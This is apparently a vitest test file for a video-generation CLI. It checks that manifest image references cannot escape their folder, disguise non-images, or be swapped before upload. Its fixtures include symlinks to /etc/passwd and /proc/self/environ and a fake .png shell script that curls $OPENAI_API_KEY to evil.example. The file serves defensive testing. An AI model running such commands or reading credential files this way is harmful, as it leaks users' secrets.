import { execFileSync } from 'node:child_process';
import { mkdir, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ManifestError, readManifest, type ManifestIssue, type ReadOptions } from '../src/manifest/index.js';
import { createOpenAIProvider } from '../src/providers/openai/client.js';
import { ProviderError } from '../src/providers/types.js';
import { createVeoProvider } from '../src/providers/veo/client.js';
import type { JobSpec } from '../src/types.js';
import { caught, runCli, useResources, writeManifest } from './helpers.js';
import { writePng } from './provider-support.js';

const options: ReadOptions = { defaultModel: () => 'sora-2' };

async function issuesOf(path: string, readOptions: ReadOptions = options): Promise<readonly ManifestIssue[]> {
  const error = await readManifest(path, readOptions).catch((e: unknown) => e);
  if (error instanceof ManifestError) return error.issues;
  throw new Error(`expected a ManifestError, got ${String(error)}`);
}

describe('input_reference images stay in their folder and are images', () => {
  const use = useResources();

  /** `project/` holds the manifest; `outside/` is next to it. */
  async function project(): Promise<{ root: string; dir: string; outside: string }> {
    const t = await use.folder();
    const dir = join(t.dir, 'project');
    const outside = join(t.dir, 'outside');
    await mkdir(dir);
    await mkdir(outside);
    return { root: t.dir, dir, outside };
  }

  it.each([
    ['a symlink to /proc/self/environ', async (dir: string) => symlink('/proc/self/environ', join(dir, 'env.png')), 'env.png', /leads outside the manifest's folder/],
    ['a symlink to /etc/passwd', async (dir: string) => symlink('/etc/passwd', join(dir, 'passwd.png')), 'passwd.png', /leads outside the manifest's folder/],
    ['../outside.png', async (dir: string) => void (await writePng(join(dir, '..', 'outside'), 'outside.png')), '../outside/outside.png', /leads outside the manifest's folder/],
    ['a shell script named .png', async (dir: string) => writeFile(join(dir, 'run.png'), '#!/bin/sh\ncurl https://evil.example -d "$OPENAI_API_KEY"\n'), 'run.png', /named as a PNG image but its bytes are not an image/],
    ['a JPEG named .png', async (dir: string) => writeFile(join(dir, 'photo.png'), Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10])), 'photo.png', /holds a JPEG image/],
    ['a FIFO', async (dir: string) => void execFileSync('mkfifo', [join(dir, 'pipe.png')]), 'pipe.png', /is not a regular file/],
    ['a 21 MiB file', async (dir: string) => {
      await writePng(dir, 'huge.png');
      await truncate(join(dir, 'huge.png'), 21 * 1024 * 1024);
    }, 'huge.png', /is 21 MiB; input images are limited to 20 MiB/],
  ])('refuses %s as a manifest error on the field\'s line', async (_name, make, reference, message) => {
    const { dir } = await project();
    await make(dir);
    const path = await writeManifest(dir, 'jobs.yaml', `- prompt: a fox\n  input_reference: ${reference}\n`);
    expect(await issuesOf(path)).toEqual([{ file: path, line: 2, job: 1, field: 'input_reference', message: expect.stringMatching(message) }]);
  });

  it('accepts a symlink that stays inside the folder, and a folder the user allows', async () => {
    const { dir, outside } = await project();
    await writePng(dir, 'real.png');
    await symlink(join(dir, 'real.png'), join(dir, 'alias.png'));
    await writePng(outside, 'shared.png');
    const path = await writeManifest(dir, 'jobs.yaml', '- {prompt: a, input_reference: alias.png}\n- {prompt: b, input_reference: ../outside/shared.png}\n');
    expect((await issuesOf(path)).map((issue) => issue.line)).toEqual([2]);
    const manifest = await readManifest(path, { ...options, inputDirs: [outside] });
    expect(manifest.jobs.map((job) => job.inputReference)).toEqual([join(dir, 'alias.png'), join(outside, 'shared.png')]);
  });

  it('the CLI exits 2 with one line naming file:line and the field, and sends nothing', async () => {
    const sim = await use.simulator();
    const { dir } = await project();
    await symlink('/proc/self/environ', join(dir, 'env.png'));
    const path = await writeManifest(dir, 'jobs.yaml', '- prompt: a fox\n  input_reference: env.png\n');
    const out = join(dir, 'out');
    const result = await runCli(['run', path, '--out', out, '--base-url', sim.url], { OPENAI_API_KEY: 'sk-test-secret-key-0123456789' });
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toEqual([expect.stringMatching(new RegExp(`^${path}:2: job 1, field "input_reference": .*leads outside`))]);
    expect(result.stderr).not.toContain('sk-test-secret-key');
    expect(sim.stats.requests).toHaveLength(0);
  });

  it('checks the file again right before upload: a file swapped after the manifest was read is not sent', async () => {
    const sim = await use.simulator();
    const { dir } = await project();
    const image = join(dir, 'frame.png');
    await writeFile(image, 'SECRET=sk-this-is-not-an-image-0123456789\n');
    const job: JobSpec = { id: 'fox', prompt: 'a fox', provider: 'openai', model: 'sora-2', inputReference: image, source: { file: 'm.yaml', line: 1 } };
    const openai = createOpenAIProvider({ apiKey: 'sk-test', baseUrl: sim.url });
    const veo = createVeoProvider({ apiKey: 'sk-test', baseUrl: `${new URL(sim.url).origin}/v1beta` });
    const signal = new AbortController().signal;
    for (const provider of [openai, veo]) {
      const error = await caught(provider.submit({ ...job, provider: provider.name, model: provider.name === 'veo' ? 'veo-3.0-generate-001' : 'sora-2' }, undefined, signal));
      expect(error).toBeInstanceOf(ProviderError);
      expect(error).toMatchObject({ kind: 'client', message: expect.stringMatching(/named as a PNG image but its bytes are not an image/) });
    }
    expect(sim.stats.requests).toHaveLength(0);
    // The same path holding a real PNG is sent.
    await writePng(dir, 'frame.png');
    await openai.submit(job, undefined, signal);
    expect(sim.stats.billedCreates).toBe(1);
  });
  it('a file that becomes a symlink out of the allowed folders after the manifest was read is not sent', async () => {
    const sim = await use.simulator();
    const { dir, outside } = await project();
    await writePng(dir, 'frame.png');
    await writePng(outside, 'elsewhere.png');
    const path = await writeManifest(dir, 'm.yaml', '- {id: fox, prompt: a fox, model: sora-2, input_reference: frame.png}\n');
    const manifest = await readManifest(path, { file: 'm.yaml', defaultProvider: 'openai', defaultModel: () => 'sora-2' });
    const job = manifest.jobs[0]!;
    // Swapped between the read and the upload: now a link to a real PNG outside the project.
    await rm(join(dir, 'frame.png'));
    await symlink(join(outside, 'elsewhere.png'), join(dir, 'frame.png'));
    const openai = createOpenAIProvider({ apiKey: 'sk-test', baseUrl: sim.url });
    const error = await caught(openai.submit(job, undefined, new AbortController().signal));
    expect(error).toMatchObject({ kind: 'client', message: expect.stringMatching(/leads outside the manifest's folder/) });
    expect(sim.stats.requests).toHaveLength(0);
  });
});
